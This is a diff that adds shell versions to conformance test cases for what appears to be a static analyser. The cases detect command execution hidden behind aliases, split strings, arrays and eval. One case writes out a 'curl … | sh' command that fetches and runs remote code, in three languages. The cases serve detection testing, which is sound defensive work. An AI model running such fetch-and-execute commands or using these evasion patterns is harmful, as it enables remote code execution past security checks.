@@ -9,6 +9,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const { execSync } = require("child_process"); let c = "true"; function go() { execSync(c); } go(); c = "id"; go();`,
       python: `import os\nc = "true"\ndef go():\n    os.system(c)\ngo()\nc = "id"\ngo()`,
+      shell: `c=true\ngo() { sh -c "$c"; }\ngo\nc=id\ngo`,
     },
     capabilities: RUNS_ID,
   },
@@ -17,6 +18,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const cp = require("child_process"); const go = cp.exec; go("id");`,
       python: `import os\ngo = os.system\ngo("id")`,
+      shell: `go=sh; "$go" -c id`,
     },
     capabilities: RUNS_ID,
   },
@@ -25,6 +27,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `let f = console.log; f = require("child_process").execSync; f("id");`,
       python: `import os\nf = print\nf = os.system\nf("id")`,
+      shell: `f=echo; f=sh; $f -c id`,
     },
     capabilities: RUNS_ID,
   },
@@ -33,6 +36,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `let f = require("child_process").execSync; f = (x) => x; f("id");`,
       python: `import os\nf = os.system\nf = lambda x: x\nf("id")`,
+      shell: `f="sh -c"; f=echo; $f id`,
     },
     noCapabilities: ["execute.process"],
   },
@@ -57,6 +61,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const cp = require("child_process"); cp["ex" + "ec" + "Sync"]("id");`,
       python: `import os\ngetattr(os, "sy" + "st" + "em")("id")`,
+      shell: `s"h" -c 'i'd`,
     },
     capabilities: RUNS_ID,
   },
@@ -81,6 +86,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `Reflect.get(require("child_process"), "execSync")("id");`,
       python: `import os\nos.__dict__["system"]("id")`,
+      shell: 'n=go; go="sh -c"; ${!n} id',
     },
     capabilities: RUNS_ID,
   },
@@ -89,6 +95,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `globalThis["ev" + "al"]("require('child_process').execSync('id')");`,
       python: `getattr(__builtins__, "ex" + "ec")("import os; os.system('id')")`,
+      shell: `e=ev; $e"al" "sh -c id"`,
     },
     capabilities: [{ capability: "execute.code" }, ...RUNS_ID],
   },
@@ -105,6 +112,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const { execSync } = require("child_process"); const t = { a: execSync, b: console.log }; t["a"]("id");`,
       python: `import os\nt = {"a": os.system, "b": print}\nt["a"]("id")`,
+      shell: "t=(echo sh); ${t[1]} -c id",
     },
     capabilities: RUNS_ID,
   },
@@ -129,6 +137,8 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `require("child_process").spawn("curl", ["https://a.example/x", "-o", "/tmp/x"]);`,
       python: `import subprocess\nsubprocess.run(["curl", "https://a.example/x", "-o", "/tmp/x"])`,
+      shell:
+        'cmd=(curl https://a.example/x -o /tmp/x); sh -c "curl https://a.example/x"; "${cmd[@]}"',
     },
     capabilities: [
       { capability: "execute.process", target: "curl" },
@@ -140,6 +150,7 @@ export const NAMING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `require("child_process").exec("curl -s https://a.example/x | sh");`,
       python: `import os\nos.system("curl -s https://a.example/x | sh")`,
+      shell: `curl -s https://a.example/x | sh`,
     },
     flows: [{ from: "network.receive", to: "execute.code", source: "https://a.example/x" }],
   },
